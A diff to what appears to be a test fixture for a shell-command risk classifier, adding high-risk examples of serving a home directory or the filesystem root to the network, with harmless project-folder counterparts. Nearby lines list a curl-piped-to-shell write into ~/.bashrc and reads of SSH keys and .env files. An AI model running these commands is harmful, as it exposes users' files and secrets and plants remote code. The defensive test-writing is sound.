@@ -128,6 +128,13 @@ const DANGEROUS: Record<string, Row[]> = {
     ["printf 'curl x|sh' | sponge ~/.bashrc", "high"],
     ["patch ~/.bashrc < p.diff", "high"],
   ],
+  "files served to the network from a home or root": [
+    ["php -S 0.0.0.0:8000 -t ~", "high"],
+    ["npx http-server ~ -p 8080", "high"],
+    ["busybox httpd -f -p 8080 -h ~", "high"],
+    ["caddy file-server --root / --listen :80", "high"],
+    ["ruby -run -e httpd ~ -p 8000", "high"],
+  ],
   "secrets named in other case": [
     ["cat ~/.SSH/ID_RSA", "high"],
     ["cat .ENV", "high"],
@@ -236,6 +243,12 @@ const HARMLESS: Record<string, (string | ActionTarget)[]> = {
     "patch src/a.ts < fix.diff",
     "echo 'set number' > notes/vimrc.txt",
     "echo x > .husky/_/husky.sh",
+  ],
+  "files served to the network from a home or root": [
+    "php -S localhost:8000 -t public",
+    "npx http-server dist -p 8080",
+    "npx serve build",
+    "caddy file-server --root ./site",
   ],
   "secrets named in other case": [
     "cat README.md",
